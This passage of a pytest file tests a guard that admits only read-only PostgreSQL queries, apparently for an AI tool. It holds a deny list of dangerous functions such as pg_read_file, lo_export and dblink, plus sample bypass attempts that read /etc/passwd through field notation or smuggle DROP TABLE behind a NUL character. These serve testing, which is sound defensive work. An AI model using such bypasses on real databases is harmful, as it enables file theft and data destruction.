        ),
        (
            "SELECT query_to_xml('DELETE FROM t', true, false, '')",
            "Query rejected: function query_to_xml is not allowed: "
            "it runs SQL given as a string, which this guard cannot check.",
        ),
    ],
)
def test_a_denied_function_message_names_the_function_and_the_reason(sql: str, expected: str) -> None:
    assert rejection(sql) == expected


@pytest.mark.parametrize(
    "name",
    [
        "pg_advisory_lock_future",
        "pg_try_advisory_anything",
        "dblink_something_new",
        "pg_stat_reset_everything",
        "pg_replication_origin_new",
        "pg_ls_newdir",
        "pg_file_chmod",
        "binary_upgrade_set_next_pg_type_oid",
        "pg_logical_slot_new_changes",
    ],
)
def test_whole_families_are_denied_by_their_prefix(name: str) -> None:
    assert f"function {name} is not allowed" in rejection(f"SELECT {name}(1)")


FIELD_NOTATION_CALLS = [
    ("SELECT (f).pg_read_file FROM t", "pg_read_file"),
    ("SELECT ('/etc/passwd'::text).pg_read_file", "pg_read_file"),
    ("SELECT (t.f).pg_read_file FROM t", "pg_read_file"),
    ("SELECT (f).PG_READ_FILE FROM t", "pg_read_file"),
    ('SELECT (f)."pg_read_file" FROM t', "pg_read_file"),
    ("SELECT (ARRAY[f])[1].pg_read_file FROM t", "pg_read_file"),
    ("SELECT ('s'::regclass).nextval", "nextval"),
    ("SELECT (0.01).pg_sleep", "pg_sleep"),
    ("SELECT (1).pg_advisory_lock", "pg_advisory_lock"),
    ("SELECT (pid).pg_terminate_backend FROM pg_stat_activity", "pg_terminate_backend"),
    ("SELECT t.f.pg_read_file FROM t", "pg_read_file"),
    ("SELECT t.nextval FROM t", "nextval"),
    ("SELECT s.t.c.lo_unlink FROM s.t", "lo_unlink"),
    ("SELECT 1 FROM t WHERE (t.id).pg_cancel_backend", "pg_cancel_backend"),
    ("SELECT * FROM t ORDER BY (t.k).pg_advisory_xact_lock", "pg_advisory_xact_lock"),
    ("WITH x AS (SELECT (f).pg_ls_dir FROM t) SELECT * FROM x", "pg_ls_dir"),
    ("EXPLAIN SELECT (1).dblink_disconnect", "dblink_disconnect"),
]


@pytest.mark.parametrize(("sql", "name"), FIELD_NOTATION_CALLS)
def test_denied_functions_called_with_field_notation_are_rejected(sql: str, name: str) -> None:
    assert rejection(sql).startswith(
        f"Query rejected: field notation .{name} is not allowed: "
        f"PostgreSQL reads it as a call of the function {name}, and it "
    )


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT (f).lower FROM t",
        "SELECT (t.f).name, t.nextval_at FROM t",
        "SELECT (rec).pg_sleeper FROM t",
        "SELECT pg_sleep FROM t",
        "SELECT t.* FROM t",
        "SELECT (ARRAY[1, 2])[1], (j -> 'a')[0] FROM t",
    ],
)
def test_field_notation_with_other_names_passes(sql: str) -> None:
    assert check_read_only(sql).kind == "select"


ISSUE_NAMES = [
    "pg_read_file",
    "pg_read_binary_file",
    "pg_ls_dir",
    "pg_ls_logdir",
    "pg_ls_waldir",
    "pg_ls_tmpdir",
    "pg_ls_archive_statusdir",
    "pg_ls_logicalsnapdir",
    "pg_ls_logicalmapdir",
    "pg_ls_replslotdir",
    "pg_stat_file",
    "pg_file_write",
    "pg_file_rename",
    "pg_file_unlink",
    "pg_current_logfile",
    "lo_import",
    "lo_export",
    "lo_open",
    "lo_create",
    "lo_creat",
    "lo_unlink",
    "lo_put",
    "lo_get",
    "lo_from_bytea",
    "lo_truncate",
    "lo_write",
    "lowrite",
    "loread",
    "pg_cancel_backend",
    "pg_terminate_backend",
    "pg_reload_conf",
    "pg_rotate_logfile",
    "pg_log_backend_memory_contexts",
    "pg_promote",
    "set_config",
    "pg_sleep",
    "pg_sleep_for",
    "pg_sleep_until",
    "pg_advisory_lock",
    "pg_advisory_lock_shared",
    "pg_advisory_unlock",
    "pg_advisory_unlock_shared",
    "pg_advisory_unlock_all",
    "pg_advisory_xact_lock",
    "pg_advisory_xact_lock_shared",
    "pg_try_advisory_lock",
    "pg_try_advisory_lock_shared",
    "pg_try_advisory_xact_lock",
    "pg_try_advisory_xact_lock_shared",
    "pg_notify",
    "pg_switch_wal",
    "pg_create_restore_point",
    "pg_logical_emit_message",
    "pg_create_physical_replication_slot",
    "pg_create_logical_replication_slot",
    "pg_drop_replication_slot",
    "pg_backup_start",
    "pg_backup_stop",
    "pg_wal_replay_pause",
    "pg_wal_replay_resume",
    "pg_copy_physical_replication_slot",
    "pg_copy_logical_replication_slot",
    "pg_replication_slot_advance",
    "pg_replication_origin_create",
    "pg_replication_origin_drop",
    "pg_replication_origin_session_setup",
    "pg_replication_origin_advance",
    "nextval",
    "setval",
    "pg_stat_reset",
    "pg_stat_reset_shared",
    "pg_stat_reset_single_table_counters",
    "pg_stat_reset_single_function_counters",
    "pg_stat_reset_slru",
    "pg_stat_reset_replication_slot",
    "pg_stat_reset_subscription_stats",
    "dblink",
    "dblink_exec",
    "dblink_connect",
    "dblink_connect_u",
    "dblink_disconnect",
    "dblink_open",
    "dblink_fetch",
    "dblink_close",
    "dblink_send_query",
    "dblink_get_result",
    "query_to_xml",
    "query_to_xmlschema",
    "query_to_xml_and_xmlschema",
    "cursor_to_xml",
    "cursor_to_xmlschema",
    "table_to_xml",
    "table_to_xmlschema",
    "table_to_xml_and_xmlschema",
    "schema_to_xml",
    "schema_to_xmlschema",
    "schema_to_xml_and_xmlschema",
    "database_to_xml",
    "database_to_xmlschema",
    "database_to_xml_and_xmlschema",
    "ts_stat",
    "txid_current",
    "pg_current_xact_id",
]


def test_the_deny_list_covers_every_function_the_issue_names() -> None:
    assert sorted(set(ISSUE_NAMES) - DENIED_FUNCTIONS) == []


def test_the_deny_list_holds_lower_case_bare_names() -> None:
    assert isinstance(DENIED_FUNCTIONS, frozenset)
    for name in DENIED_FUNCTIONS:
        assert name == name.lower()
        assert name.isidentifier()


NOT_CALLS_OF_DENIED_FUNCTIONS = [
    "SELECT my_pg_sleep_stats()",
    "SELECT pg_sleep_stats()",
    "SELECT nextval_report()",
    "SELECT sleepy.pg_sleeper()",
    "SELECT dblinker()",
    "SELECT my_dblink()",
    "SELECT lo_importance FROM t",
    "SELECT setval_history FROM t",
    "SELECT pg_sleep FROM t",
    "SELECT * FROM pg_sleep_log",
    "SELECT * FROM pg_catalog.pg_ls_dir_audit",
    'SELECT "pg_sleep(1)" FROM t',
    "SELECT 'pg_sleep(1)'",
    "SELECT $$pg_read_file('/etc/passwd')$$",
    "SELECT 'SELECT pg_sleep(1); DROP TABLE t'",
    "-- pg_sleep(1)\nSELECT 1",
    "SELECT 1 /* pg_sleep(1) */",
    "SELECT currval('s'), lastval()",
    "SELECT current_setting('work_mem')",
    "SELECT pg_backend_pid(), pg_postmaster_start_time()",
    "SELECT txid_current_snapshot(), pg_current_snapshot()",
    "SELECT pg_relation_size('t'), pg_total_relation_size('t'), pg_size_pretty(1024)",
    "SELECT pg_get_viewdef('v'), pg_get_functiondef('f'::regproc)",
    "SELECT * FROM pg_stat_activity",
    "SELECT pg_stat_get_numscans('t'::regclass)",
    "SELECT to_regclass('pg_sleep')",
]


@pytest.mark.parametrize("sql", NOT_CALLS_OF_DENIED_FUNCTIONS)
def test_names_that_merely_contain_or_mention_a_denied_function_pass(sql: str) -> None:
    assert check_read_only(sql).kind == "select"


# --- parse failures, odd input and size ----------------------------------------------------------

GARBAGE = [
    "SELEC 1",
    "SELECT FROM WHERE",
    "!!!",
    "SELECT (1",
    "SELECT 1)",
    "SELECT 'abc",
    'SELECT "abc',
    "SELECT /* unterminated",
    "SELECT 1 /* a /* nested */",
    "SELECT $$abc",
    "SELECT $tag$abc$tg$",
    "SELECT E'\\",
    "\x01\x02",
    '{"json": true}',
    "<xml/>",
    "SELECT 1 +",
    "EXPLAIN",
    "SELECT * FROM",
    "WITH x AS (SELECT 1)",
    "SELECT 1 UNION",
    "SHOW",
    "VALUES",
    "TABLE",
    "SELECT 'a' 'b'",
    "SELECT 1; SELECT (",
    "SELECT 1 FROM t WHERE",
    "\uff33\uff25\uff2c\uff25\uff23\uff34 1",  # full-width letters
    "SELECT 1\u00a0",
]


@pytest.mark.parametrize("sql", GARBAGE)
def test_text_the_parser_refuses_is_rejected_with_its_message(sql: str) -> None:
    message = rejection(sql)
    assert message.startswith("Query rejected: the text is not valid SQL: ")
    assert message.endswith("; fix it and send it again.")


@pytest.mark.parametrize(
    ("sql", "where"),
    [
        ("SELECT 'abc", 'unterminated quoted string at or near "\'abc" (at character 8, line 1, column 8)'),
        ("SELECT 1 +\n FROM t", 'syntax error at or near "FROM" (at character 13, line 2, column 2)'),
        ("SELECT 'é', 1 FORM t", 'syntax error at or near "t" (at character 20, line 1, column 20)'),
        (
            "-- a comment\nSELECT 1;\nSELECT x FRM t",
            'syntax error at or near "t" (at character 37, line 3, column 14)',
        ),
    ],
)
def test_a_parse_error_says_where_in_characters_lines_and_columns(sql: str, where: str) -> None:
    assert where in rejection(sql)


def test_a_parse_error_at_the_end_of_the_input_has_no_position() -> None:
    assert rejection("SELECT 1 +") == (
        "Query rejected: the text is not valid SQL: syntax error at end of input; fix it and send it again."
    )


@pytest.mark.parametrize(
    "sql", ["", " ", "\n\t ", "-- only a comment", "/* only */", ";", ";;;", " ; -- x\n ;"]
)
def test_empty_or_comment_only_text_is_rejected(sql: str) -> None:
    assert rejection(sql) == (
        "Query rejected: the text holds no statement, only white space or comments; "
        "send one read-only SELECT, VALUES, TABLE, EXPLAIN or SHOW statement instead."
    )


@pytest.mark.parametrize("sql", ["SELECT 1\x00; DROP TABLE t", "\x00", "SELECT '\x00'", "SELECT 1 -- \x00"])
def test_a_nul_character_is_rejected_before_the_parser_can_stop_at_it(sql: str) -> None:
    assert "NUL character" in rejection(sql)


@pytest.mark.parametrize("sql", ["SELECT '\ud800'", "SELECT 1 -- \udfff"])
def test_text_that_is_not_valid_unicode_is_rejected(sql: str) -> None:
    assert "not valid Unicode" in rejection(sql)


def test_a_one_megabyte_query_is_rejected_for_its_length_without_parsing() -> None:
    sql = "SELECT id FROM t WHERE id IN (" + ",".join(str(i) for i in range(150_000)) + ")"
    assert len(sql) > 900_000
    message = rejection(sql)
    assert f"the limit is {MAX_SQL_LENGTH}" in message
    assert "send a shorter statement" in message


def test_a_query_just_under_the_length_limit_is_parsed_and_judged() -> None:
    head = "SELECT id FROM t WHERE id IN ("
    sql = head + ",".join(["7"] * ((MAX_SQL_LENGTH - len(head)) // 2)) + ")"
    assert MAX_SQL_LENGTH - 2 <= len(sql) <= MAX_SQL_LENGTH
    assert check_read_only(sql).sql == sql
    assert "pg_sleep" in rejection(sql[: -len("7,7,7,7,7,7,7)")] + "pg_sleep(1))")


def test_a_query_one_character_over_the_limit_is_rejected() -> None:
    sql = "SELECT '" + "x" * (MAX_SQL_LENGTH - 9) + "'"
    assert len(sql) == MAX_SQL_LENGTH
    assert check_read_only(sql).kind == "select"
    assert "characters long" in rejection(sql + " ")


TOO_DEEP = {
    "10,000 parentheses": "SELECT " + "(" * 10_000 + "1" + ")" * 10_000,
    "40,000 parentheses": "SELECT " + "(" * 40_000 + "1" + ")" * 40_000,
    "5,000 nested subqueries": "SELECT " + "(SELECT " * 5_000 + "1" + ")" * 5_000,
    "10,000 nested arrays": "SELECT " + "ARRAY[" * 10_000 + "1" + "]" * 10_000,
    "10,000 NOTs": "SELECT " + "NOT " * 10_000 + "true",
    "5,000 nested calls": "SELECT " + "f(" * 5_000 + "1" + ")" * 5_000,
    # Left-deep chains: the grammar takes them in its stride, the tree is as deep as they are long.
    # 40,000 terms crash `pglast.parse_sql` with a C stack overflow.
    "a 40,000-term sum": "SELECT " + "+".join(["1"] * 40_000),
    "a 2,000-term sum": "SELECT " + "+".join(["1"] * 2_000),
    "a 14,000-piece concatenation": "SELECT " + " || ".join(["'a'"] * 14_000),
    "12,000 casts": "SELECT 1" + "::int" * 12_000,
    "5,000 UNIONs": " UNION ".join(["SELECT 1"] * 5_000),
    "3,000 JOINs": "SELECT 1 FROM a" + " JOIN a ON true" * 3_000,
}


@pytest.mark.parametrize("sql", TOO_DEEP.values(), ids=TOO_DEEP.keys())
def test_statements_nested_too_deeply_are_rejected_not_a_crash(sql: str) -> None:
    assert "the statement nests too deeply to check" in rejection(sql)


NESTED_BUT_FINE = {
    "100 parentheses": "SELECT " + "(" * 100 + "1" + ")" * 100,
    "30 nested subqueries": "SELECT " + "(SELECT " * 30 + "1" + ")" * 30,
    "a 150-term sum": "SELECT " + " + ".join(f"c{i}" for i in range(150)) + " FROM t",
    "a 100-piece concatenation": "SELECT " + " || ', ' || ".join(f"c{i}" for i in range(50)) + " FROM t",
    "100 UNION ALL arms": " UNION ALL ".join(f"SELECT {i}" for i in range(100)),
    "40 JOINs": "SELECT 1 FROM t0" + "".join(f" JOIN t{i} USING (id)" for i in range(1, 40)),
    "5,000 AND terms": "SELECT 1 FROM t WHERE " + " AND ".join(f"c{i} > 0" for i in range(5_000)),
    "5,000 OR terms": "SELECT 1 FROM t WHERE " + " OR ".join(f"c = {i}" for i in range(5_000)),
}


@pytest.mark.parametrize("sql", NESTED_BUT_FINE.values(), ids=NESTED_BUT_FINE.keys())
def test_realistic_nesting_and_long_flat_lists_are_accepted(sql: str) -> None:
    assert check_read_only(sql).kind == "select"


# --- what must pass ------------------------------------------------------------------------------

ANALYTICS = [
    "SELECT 1",
    "select * from orders",
    "SELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.customer_id",
    "SELECT * FROM a LEFT JOIN b USING (id) RIGHT JOIN c ON c.id = b.id FULL OUTER JOIN d ON true",
    "SELECT * FROM a NATURAL JOIN b CROSS JOIN c",
    "WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '7 days') "
    "SELECT count(*) FROM recent",
    "WITH a AS MATERIALIZED (SELECT 1 AS x), b AS NOT MATERIALIZED (SELECT x + 1 AS y FROM a) "
    "SELECT * FROM b",
    "WITH RECURSIVE tree(id, parent, depth) AS (SELECT id, parent, 0 FROM nodes WHERE parent IS NULL "
    "UNION ALL SELECT n.id, n.parent, t.depth + 1 FROM nodes n JOIN tree t ON n.parent = t.id) "
    "SELECT * FROM tree",
    "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10) "
    "SEARCH DEPTH FIRST BY n SET ord CYCLE n SET is_cycle USING path SELECT * FROM r",
    "SELECT id, row_number() OVER (PARTITION BY customer_id ORDER BY created_at DESC) AS rn FROM orders",
    "SELECT sum(total) OVER w, avg(total) OVER w FROM orders WINDOW w AS (ORDER BY created_at "
    "ROWS BETWEEN 6 PRECEDING AND CURRENT ROW)",
    "SELECT lag(total, 1) OVER (ORDER BY day), lead(total) OVER (ORDER BY day), "
    "first_value(total) OVER (ORDER BY day RANGE BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) FROM daily",
    "SELECT c.id, x.m FROM customers c, LATERAL (SELECT max(amount) AS m FROM payments p "
    "WHERE p.customer_id = c.id) x",
    "SELECT * FROM customers c LEFT JOIN LATERAL (SELECT * FROM orders o WHERE o.customer_id = c.id "
    "ORDER BY created_at DESC LIMIT 3) o ON true",
    "SELECT region, product, sum(sales) FROM s GROUP BY GROUPING SETS ((region), (product), ())",
    "SELECT region, product, sum(sales) FROM s GROUP BY ROLLUP (region, product)",
    "SELECT region, product, sum(sales), grouping(region) FROM s GROUP BY CUBE (region, product)",
    "SELECT data->>'name', data#>>'{a,b}', data @> '{\"x\": 1}' FROM docs WHERE data ? 'name'",
    "SELECT jsonb_build_object('id', id, 'tags', tags), jsonb_agg(x) FROM docs GROUP BY id, tags",
    "SELECT * FROM jsonb_to_recordset('[{\"a\": 1}]'::jsonb) AS r(a int)",
    "SELECT jsonb_path_query(data, '$.items[*] ? (@.price > 10)') FROM docs",
    "SELECT json_agg(t) FROM (SELECT 1 AS a) t",
    "SELECT * FROM JSON_TABLE('[1, 2]'::jsonb, '$[*]' COLUMNS (v int PATH '$'))",
    "SELECT array_agg(DISTINCT tag ORDER BY tag), unnest(ARRAY[1, 2, 3]), array_length(tags, 1) "
    "FROM docs GROUP BY tags",
    "SELECT tags[1], tags[2:3], cardinality(tags), 'x' = ANY (tags) FROM docs",
    "SELECT upper(name), lower(name), initcap(name), length(name), substring(name FROM 1 FOR 3) FROM t",
    "SELECT trim(both ' ' FROM name), position('a' IN name), overlay(name PLACING 'x' FROM 1), "
    "split_part(email, '@', 2), concat_ws(',', a, b), format('%s-%s', a, b) FROM t",
    "SELECT name ~ '^a', name ~* 'B$', regexp_replace(name, '\\s+', ' ', 'g'), "
    "regexp_matches(name, '(\\d+)') FROM t WHERE name SIMILAR TO '%x%' OR name ILIKE '%y%'",
    "SELECT * FROM generate_series(1, 10) AS g(i)",
    "SELECT d::date FROM generate_series('2024-01-01'::timestamp, '2024-12-31', interval '1 month') d",
    "SELECT date_trunc('month', created_at) AS m, count(*) FROM orders GROUP BY 1 ORDER BY 1",
    "SELECT now(), current_date, current_timestamp, localtimestamp, age(now(), created_at), "
    "extract(epoch FROM created_at), date_part('dow', created_at) FROM orders",
    "SELECT created_at AT TIME ZONE 'UTC', to_char(created_at, 'YYYY-MM'), make_date(2024, 1, 1) FROM orders",
    "SELECT 1::text, CAST('1' AS int), '2024-01-01'::date, '{1,2}'::int[], 'a'::regclass, "
    "1.5::numeric(10, 2)",
    "SELECT * FROM t WHERE id IN (SELECT id FROM s) AND EXISTS (SELECT 1 FROM u WHERE u.id = t.id)",
    "SELECT (SELECT max(x) FROM s) AS m, a > ALL (SELECT b FROM u) FROM t",
    "SELECT a FROM t UNION SELECT a FROM s",
    "SELECT a FROM t UNION ALL SELECT a FROM s INTERSECT SELECT a FROM u EXCEPT SELECT a FROM v",
    "(SELECT a FROM t ORDER BY a LIMIT 5) UNION ALL (SELECT a FROM s ORDER BY a DESC LIMIT 5)",
    "VALUES (1, 'a'), (2, 'b')",
    "SELECT * FROM (VALUES (1, 'a'), (2, 'b')) AS v(id, name)",
    "TABLE orders",
    "TABLE public.orders",
    "SELECT * FROM orders WHERE id = $1 AND status = ANY ($2::text[])",
    "SELECT $1::int + $2",
    "SELECT DISTINCT ON (customer_id) * FROM orders ORDER BY customer_id, created_at DESC",
    "SELECT count(*) FILTER (WHERE status = 'paid'), percentile_cont(0.5) WITHIN GROUP (ORDER BY total) "
    "FROM orders",
    "SELECT CASE WHEN total > 100 THEN 'big' WHEN total > 10 THEN 'medium' ELSE 'small' END FROM orders",
    "SELECT COALESCE(a, b, 0), NULLIF(a, 0), GREATEST(a, b), LEAST(a, b) FROM t",
    "SELECT * FROM orders ORDER BY total DESC NULLS LAST LIMIT 10 OFFSET 20",
    "SELECT * FROM orders ORDER BY total DESC FETCH FIRST 5 ROWS WITH TIES",
    "SELECT * FROM t TABLESAMPLE BERNOULLI (10) REPEATABLE (42)",
    "SELECT md5(name), encode(sha256(name::bytea), 'hex'), gen_random_uuid() FROM t",
    "SELECT random(), floor(random() * 10)::int, round(avg(total), 2), stddev(total) FROM orders",
    "SELECT to_tsvector('english', body) @@ plainto_tsquery('english', 'query') FROM docs",
    "SELECT ts_rank(to_tsvector(body), to_tsquery('a & b')), ts_headline(body, to_tsquery('a')) FROM docs",
    "SELECT xmlelement(name x, 'y'), xpath('/a/text()', '<a>b</a>'::xml)",
    "SELECT pg_typeof(1), version(), current_user, session_user, current_schema()",
    "SELECT pg_size_pretty(pg_database_size(current_database()))",
    "SELECT relname, n_live_tup FROM pg_stat_user_tables ORDER BY n_live_tup DESC",
    "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'",
    "SELECT * FROM pg_catalog.pg_class c JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace",
    "SELECT ROW(1, 2) = ROW(1, 2), (1, 'a')::record IS NOT NULL",
    "SELECT int4range(1, 10) @> 5, tstzrange(now(), now() + interval '1 day') && tstzrange(now(), NULL)",
    "SELECT 'a' COLLATE \"C\" < 'b'",
    "SELECT x FROM t WHERE x BETWEEN SYMMETRIC 10 AND 1 AND y IS DISTINCT FROM z AND w IS NOT TRUE",
    "SELECT * FROM ROWS FROM (generate_series(1, 3), unnest(ARRAY['a', 'b'])) WITH ORDINALITY AS r(n, s, i)",
    "SELECT x.* FROM docs, XMLTABLE('/rows/row' PASSING docs.body COLUMNS a int PATH '@a') AS x",
    "SELECT currval('orders_id_seq'), lastval()",
    "/* leading comment */ SELECT 1 -- trailing comment",
    "-- a comment line\nSELECT 1;\n-- another\n",
    "SELECT 1;",
    "select\n  a,\n  b\nfrom\n  t\nwhere\n  a > 1\n;",
    'SELECT "Mixed Case Column", "select" FROM "Weird Table"',
    "SELECT 'O''Reilly', E'tab\\there', $$dollar 'quoted'$$, U&'\\0041', B'1010', X'FF'",
    "SELECT ' ; DROP TABLE t; -- '",
]


@pytest.mark.parametrize("sql", ANALYTICS)
def test_legitimate_analytics_sql_is_accepted(sql: str) -> None:
    checked = check_read_only(sql)
    assert checked.kind == "select"
    assert checked.explain_analyze is False


@pytest.mark.parametrize("sql", ANALYTICS)
def test_legitimate_analytics_sql_can_be_explained(sql: str) -> None:
    checked = check_read_only(f"EXPLAIN (FORMAT JSON, VERBOSE) {check_read_only(sql).sql}")
    assert checked.kind == "explain"
    assert check_explainable(sql).kind == "select"


@pytest.mark.parametrize(
    "sql",
    ["SHOW work_mem", "SHOW ALL", "show search_path", "SHOW TIME ZONE", "SHOW TRANSACTION ISOLATION LEVEL"],
)
def test_show_is_accepted_as_its_own_kind(sql: str) -> None:
    assert check_read_only(sql) == CheckedStatement(sql, "show", explain_analyze=False)


@pytest.mark.parametrize(
    "sql",
    [
        "EXPLAIN SELECT 1",
        "EXPLAIN (FORMAT JSON) SELECT * FROM t",
        "EXPLAIN VERBOSE SELECT * FROM t",
        "EXPLAIN (COSTS off, SETTINGS, GENERIC_PLAN) SELECT * FROM t WHERE id = $1",
        "EXPLAIN VALUES (1)",
        "EXPLAIN TABLE t",
        "EXPLAIN WITH x AS (SELECT 1) SELECT * FROM x",
    ],
)
def test_explain_of_a_select_is_accepted(sql: str) -> None:
    assert check_read_only(sql) == CheckedStatement(sql, "explain", explain_analyze=False)


# --- the statement handed back -------------------------------------------------------------------

STATEMENT_TEXT = [
    ("SELECT 1", "SELECT 1"),
    ("SELECT 1;", "SELECT 1"),
    ("SELECT 1 ;  \n", "SELECT 1"),
    ("SELECT 1;;", "SELECT 1"),
    ("  \n SELECT 1", "SELECT 1"),
    ("/* lead */ SELECT 1", "SELECT 1"),
    ("-- lead\nSELECT 1", "SELECT 1"),
    ("SELECT 1 -- trailing", "SELECT 1"),
    ("SELECT 1 /* trailing */ ;", "SELECT 1"),
    ("SELECT 1 /* a /* nested */ b */  -- and more", "SELECT 1"),
    ("SELECT 1\n-- a\n-- b\n;\n-- c", "SELECT 1"),
    ("SELECT  1  /* inner */ + 2", "SELECT  1  /* inner */ + 2"),
    ("SELECT 1 /* x */ + 2 -- y\n", "SELECT 1 /* x */ + 2"),
    ("SELECT ';' ;", "SELECT ';'"),
    ("SELECT 'é' /* x */;", "SELECT 'é'"),
    ("SELECT 'a\n;'\n;\n", "SELECT 'a\n;'"),
    ("SELECT $$ -- $$", "SELECT $$ -- $$"),
    ("SELECT '--' -- x", "SELECT '--'"),
    ("SELECT 1 -- a'\n, 'b -- a'", "SELECT 1 -- a'\n, 'b -- a'"),
    ("SELECT x\u00a0", "SELECT x\u00a0"),
    ("SELECT 1\r\n;\r\n", "SELECT 1"),
    ("SELECT $1 -- a parameter", "SELECT $1"),
    ("SHOW work_mem;", "SHOW work_mem"),
    ("EXPLAIN SELECT 1;", "EXPLAIN SELECT 1"),
    ("VALUES (1);", "VALUES (1)"),
    ("TABLE t;", "TABLE t"),
    ("WITH x AS (SELECT 1)\nSELECT *\nFROM x;\n", "WITH x AS (SELECT 1)\nSELECT *\nFROM x"),
]


@pytest.mark.parametrize(("sql", "expected"), STATEMENT_TEXT)
def test_the_statement_text_is_what_was_written_without_what_surrounds_it(sql: str, expected: str) -> None:
    assert check_read_only(sql).sql == expected


def test_the_statement_text_can_be_extended_safely() -> None:
    checked = check_read_only("SELECT * FROM t -- show everything")
    assert check_read_only(f"{checked.sql} LIMIT 10").sql == "SELECT * FROM t LIMIT 10"


@pytest.mark.parametrize(
    ("sql", "kind", "analyze"),
    [
        ("SELECT 1", "select", False),
        ("VALUES (1)", "select", False),
        ("TABLE t", "select", False),
        ("WITH x AS (SELECT 1) SELECT * FROM x", "select", False),
        ("SHOW work_mem", "show", False),
        ("EXPLAIN SELECT 1", "explain", False),
        ("EXPLAIN (ANALYZE off) SELECT 1", "explain", False),
        ("EXPLAIN ANALYZE SELECT 1", "explain", True),
    ],
)
def test_the_kind_and_the_analyze_flag_describe_the_statement(sql: str, kind: str, analyze: bool) -> None:
    checked = check_read_only(sql, allow_explain_analyze=True)
    assert (checked.kind, checked.explain_analyze) == (kind, analyze)


def test_a_checked_statement_is_immutable() -> None:
    checked = check_read_only("SELECT 1")
    with pytest.raises(dataclasses.FrozenInstanceError):
        checked.sql = "DELETE FROM t"  # pyright: ignore[reportAttributeAccessIssue] -- the point of the test
    assert checked.sql == "SELECT 1"


def test_a_rejection_is_an_invalid_argument_error_the_model_can_read() -> None:
    with pytest.raises(InvalidArgumentError):
        check_read_only("DELETE FROM t")


# --- check_explainable ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "sql", ["SELECT 1", "SELECT * FROM t;", "VALUES (1)", "TABLE t", "WITH x AS (SELECT 1) SELECT * FROM x"]
)
def test_explainable_statements_are_selects(sql: str) -> None:
    checked = check_explainable(sql)
    assert checked.kind == "select"
    assert checked.explain_analyze is False
    assert checked.sql == sql.rstrip(";")


@pytest.mark.parametrize("sql", ["SHOW work_mem", "SHOW ALL"])
def test_show_cannot_be_explained(sql: str) -> None:
    assert explain_rejection(sql) == (
        "Query rejected: SHOW cannot be explained; pass a SELECT, VALUES or TABLE statement."
    )


@pytest.mark.parametrize(
    "sql",
    [
        "EXPLAIN SELECT 1",
        "EXPLAIN ANALYZE SELECT 1",
        "EXPLAIN (FORMAT JSON) SELECT 1",
        "explain delete from t",
    ],
)
def test_an_explain_cannot_be_explained_again(sql: str) -> None:
    assert explain_rejection(sql) == (
        "Query rejected: the statement already starts with EXPLAIN; pass only the statement to explain."
    )


@pytest.mark.parametrize(
    ("sql", "fragment"),
    [
        ("DELETE FROM t", "DELETE is not allowed"),
        ("SELECT pg_sleep(1)", "function pg_sleep is not allowed"),
        ("SELECT 1; SELECT 2", "only one statement per call"),
        ("SELECT * FROM t FOR UPDATE", "locks rows"),
        ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "DELETE inside a WITH clause"),
        ("SELECT 1 INTO t", "SELECT ... INTO"),
        ("SELEC 1", "not valid SQL"),
        ("", "holds no statement"),
    ],
)
def test_explainable_statements_pass_every_other_check_too(sql: str, fragment: str) -> None:
    assert fragment in explain_rejection(sql)


# --- fail closed on trees no parser should produce -----------------------------------------------

# The paths that refuse a malformed tree cannot be reached through the parser, so these tests call
# the walker itself.
_inspect = guard_internals._inspect  # pyright: ignore[reportPrivateUsage] -- see above
_is_analyze = guard_internals._is_analyze  # pyright: ignore[reportPrivateUsage] -- see above
_load = guard_internals._load  # pyright: ignore[reportPrivateUsage] -- see above

UNREADABLE_TREES: list[Any] = [
    {"FuncCall": {"funcname": []}},
    {"FuncCall": {"funcname": [{"A_Star": {}}]}},
    {"FuncCall": {"funcname": "pg_sleep"}},
    {"ColumnRef": {"fields": "x"}},
    {"CommonTableExpr": {"ctequery": {"SelectStmt": {}, "DeleteStmt": {}}}},
    {"CommonTableExpr": {"ctequery": {"DeleteStmt": None}}},
]


@pytest.mark.parametrize("tree", UNREADABLE_TREES)
def test_a_tree_the_guard_cannot_read_is_refused(tree: Any) -> None:
    with pytest.raises(QueryRejectedError, match="the guard could not read the parsed statement"):
        _inspect(tree)


@pytest.mark.parametrize("serialised", ['{"stmts": []}', '{"stmts": [{}, {}]}', '{"version": 1}', "[]"])
def test_a_serialisation_without_exactly_one_statement_is_refused(serialised: str) -> None:
    with pytest.raises(QueryRejectedError, match="the guard could not read the parsed statement"):
        _load(serialised)


NESTED_STATEMENTS: list[tuple[Any, str]] = [
    ({"SubLink": {"subselect": {"InsertStmt": {}}}}, "INSERT inside the statement modifies data"),
    ([{"A_Expr": {"lexpr": {"VacuumStmt": {}}}}], "VacuumStmt inside the statement is not a read"),
]


@pytest.mark.parametrize(("tree", "message"), NESTED_STATEMENTS)
def test_a_statement_anywhere_below_a_select_is_refused(tree: Any, message: str) -> None:
    with pytest.raises(QueryRejectedError, match=message):
        _inspect(tree)


ANALYZE_OPTIONS: list[tuple[Any, bool]] = [
    ([{"DefElem": {"defname": "analyze", "arg": {"Boolean": {}}}}], False),
    ([{"DefElem": {"defname": "analyze", "arg": {"Boolean": {"boolval": True}}}}], True),
    ([{"DefElem": {"defname": "analyze", "arg": {"Float": {"fval": "0"}}}}], True),
    ([{"DefElem": {"defname": "verbose"}}], False),
    (None, False),
]


@pytest.mark.parametrize(("options", "analyze"), ANALYZE_OPTIONS)
def test_analyze_counts_as_on_unless_it_is_clearly_off(options: Any, analyze: bool) -> None:
    assert _is_analyze(options) is analyze


def test_a_repeated_statement_gets_the_same_verdict_and_a_rejection_stays_a_rejection() -> None:
    first = check_read_only("SELECT 1 AS cached_once")
    assert check_read_only("SELECT 1 AS cached_once") == first
    for _ in range(2):
        with pytest.raises(QueryRejectedError, match="DELETE"):
            check_read_only("DELETE FROM cached_twice")
    # The cache key holds the EXPLAIN ANALYZE permission: allowed once is not allowed always.
    assert check_read_only("EXPLAIN ANALYZE SELECT 1", allow_explain_analyze=True).explain_analyze
    with pytest.raises(QueryRejectedError, match="ANALYZE"):
        check_read_only("EXPLAIN ANALYZE SELECT 1")
    # Longer than the cached length: still judged, every time.
    long_sql = "SELECT '" + "x" * 5000 + "' AS long"
